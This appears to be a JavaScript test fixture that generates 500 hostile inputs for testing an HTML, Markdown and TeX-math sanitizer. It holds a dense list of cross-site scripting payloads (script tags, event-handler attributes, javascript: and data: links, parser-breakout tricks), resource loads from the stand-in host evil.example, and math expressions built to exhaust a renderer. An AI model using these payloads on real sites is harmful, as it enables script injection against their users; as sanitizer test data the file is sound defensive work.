// Hostile texts: ways to run a script or fetch something, each in several wrappings.

const kRun = 'window.pwned()';
const kAway = 'https://evil.example/x';

const kHtml = [
  `<script>${kRun}</script>`, `<script src="${kAway}.js"></script>`, `<img src="${kAway}.png">`, `<img src=x onerror="${kRun}">`,
  `<svg onload="${kRun}"></svg>`, `<svg><script>${kRun}</script></svg>`, `<svg><image href="${kAway}.svg"/></svg>`,
  `<svg><animate onbegin="${kRun}" attributeName=x dur=1s></svg>`, `<iframe src="${kAway}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`, `<object data="${kAway}"></object>`, `<embed src="${kAway}">`,
  `<link rel=stylesheet href="${kAway}.css">`, `<style>@import "${kAway}.css";</style>`, `<div style="background:url(${kAway})">x</div>`,
  `<body onload="${kRun}">`, `<details open ontoggle="${kRun}">x</details>`, `<video src="${kAway}" autoplay></video>`,
  `<audio src="${kAway}" autoplay onerror="${kRun}"></audio>`, `<input autofocus onfocus="${kRun}">`, `<form action="${kAway}"><button>go</button></form>`,
  `<a href="javascript:${kRun}">x</a>`, `<meta http-equiv=refresh content="0;url=${kAway}">`, `<base href="${kAway}">`,
  `<math><mtext><img src=x onerror="${kRun}"></mtext></math>`, `<math href="javascript:${kRun}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${kRun}>">`, `<template><script>${kRun}</script></template>`,
  `<svg><foreignObject><iframe src="${kAway}"></iframe></foreignObject></svg>`, `<img srcset="${kAway}.png 2x">`,
  `<xmp><img src=x onerror="${kRun}"></xmp>`, `<!--><img src=x onerror="${kRun}">-->`, `<form id=test><input name=attributes></form>`,
  `<a id=pwned href="cid:x">x</a>`, `<marquee onstart="${kRun}">x</marquee>`, `<picture><source srcset="${kAway}"><img></picture>`,
];

const kMarkdown = [
  `![x](${kAway}.png)`, `![x](${kAway}.png "title")`, `[x](javascript:${kRun})`, `[x](JaVaScRiPt:${kRun})`, `[x](&#106;avascript:${kRun})`,
  `[x](java\tscript:${kRun})`, `[x](vbscript:${kRun})`, `[x](data:text/html,<script>${kRun}</script>)`, `[x](data:image/svg+xml,<svg onload=${kRun}>)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=)`, `<javascript:${kRun}>`, `[x](//evil.example/x)`, `[x](/bantam/export)`,
  `[x]: javascript:${kRun}\n\n[x]`, `![x][y]\n\n[y]: ${kAway}.png`, `[a](https://ok.example" onmouseover="${kRun})`, `[a](<https://ok.example" onclick="${kRun}>)`,
  '```"><img src=x onerror=' + kRun + '>\ncode\n```', '```js\n</code></pre><script>' + kRun + '</script>\n```', '`<img src=x onerror=' + kRun + '>`',
  `# <img src=x onerror="${kRun}">`, `| a |\n|---|\n| <img src=x onerror="${kRun}"> |`, `> <script>${kRun}</script>`, `- <svg onload="${kRun}">`,
  `[<img src=x onerror="${kRun}">](${kAway})`, `[![x](${kAway}.png)](javascript:${kRun})`, `\\<img src=x onerror="${kRun}">`, `&lt;img src=x onerror=${kRun}&gt;`,
];

const kMath = [
  `$\\href{javascript:${kRun}}{x}$`, `$\\includegraphics{${kAway}.png}$`, `$\\url{javascript:${kRun}}$`, `$\\htmlData{onclick=${kRun}}{x}$`,
  `$\\htmlStyle{background:url(${kAway})}{x}$`, `$\\text{<img src=x onerror=${kRun}>}$`, `$$\\def\\a{\\a\\a}\\a$$`, `$\\unknown{<script>${kRun}</script>}$`,
  `$\\rule{1e9em}{1e9em}$`, `$\\color{red" onload="${kRun}}x$`,
];

const kWrappings = [
  (text) => text,
  (text) => `Before ${text} after`,
  (text) => `1. list\n   ${text.replaceAll('\n', '\n   ')}`,
  (text) => `**${text}**`,
  (text) => `> quoted\n>\n> ${text.replaceAll('\n', '\n> ')}\n\n한국어`,
  (text) => `${text}\n\n\`\`\`html\n${text}\n\`\`\`\n\n${text.toUpperCase()}`,
  (text) => `${text.replaceAll('<', '<\u0000')}\n${text.replaceAll('"', '&quot;')}`,
];

// 500 of them, always the same.
export function hostileTexts() {
  const basic = [...kHtml, ...kMarkdown, ...kMath];
  return Array.from({ length: 500 }, (_, i) => kWrappings[Math.floor(i / basic.length) % kWrappings.length](basic[i % basic.length]));
}
